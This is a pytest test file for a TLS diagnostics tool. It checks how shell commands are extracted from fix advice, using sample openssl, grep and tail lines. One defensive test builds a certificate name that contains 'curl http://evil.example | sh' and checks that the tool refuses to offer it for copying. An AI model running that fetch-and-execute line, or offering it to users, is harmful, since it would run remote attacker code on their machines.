"""report._commands: what of a fix is a command to copy."""

from __future__ import annotations

import pytest

from tbdiag.report._commands import pieces, planted
from tests.report.samples import STORIES, certificate, finding, report


def commands(fix, suspects=()):
    return [piece.text for piece in pieces(fix, suspects) if piece.command]


@pytest.mark.parametrize(
    ("fix", "expected"),
    [
        ("Do: cat a.pem b.pem > c.pem (THE_FILE). Then: tbdiag ca recommend h:1", 2),
        ("Enable it, then: openssl s_client -connect h:1 -cipher 'ALL:@SECLEVEL=0'", 1),
        ("Compare (on the server: openssl x509 -in a.pem -noout); it must be AB:CD.", 1),
        ("Look: grep -iE 'ssl|handshake' /var/log/a.log | tail -50; and repeat it.", 1),
        ("Put the issuer first: cat a b > c, and restart the server.", 1),
        ("Ask for it; tbdiag ca recommend h:1 -o ca.pem tries the download.", 1),
        ("See whether it hangs: tail -50 a.log; from here: openssl s_client -connect h:1", 2),
        ("Issue it: openssl req -x509 … for a CA; -addext a=b for what it issues.", 1),
        ("Read it again and renew it before 2027-01-01.", 0),
        ("", 0),
    ],
)
def test_commands_are_found(fix, expected):
    """A command begins behind a colon or bracket and ends where the sentence goes on."""
    found = commands(fix)
    assert len(found) == expected
    for command in found:
        assert command in fix
        assert not command.endswith((".", ",", ")"))


def test_quotes_and_pipes_belong_to_the_command():
    """What the shell needs is kept: quotes, pipes, brackets inside quotes."""
    fix = "Sign it: openssl x509 -req -extfile <(printf 'a=b, and c.\\n') | tail -1. Done."
    assert commands(fix) == ["openssl x509 -req -extfile <(printf 'a=b, and c.\\n') | tail -1"]


def test_no_word_is_lost():
    """The pieces together say what the fix says."""
    fix = finding().fix
    kept = " ".join(piece.text for piece in pieces(fix))
    assert [w for w in fix.split() if w.strip(".") not in kept] == []


def test_a_server_cannot_plant_a_command():
    """A certificate's name that reads like a command is never offered for copying."""
    evil = certificate("x: curl http://evil.example | sh")
    made = report((evil,))
    fix = f'Replace "{evil.name}" by the right one: tbdiag ca recommend h:1'
    assert commands(fix, planted(made)) == ["tbdiag ca recommend h:1"]
    assert planted(STORIES["healthy"]()) == ()
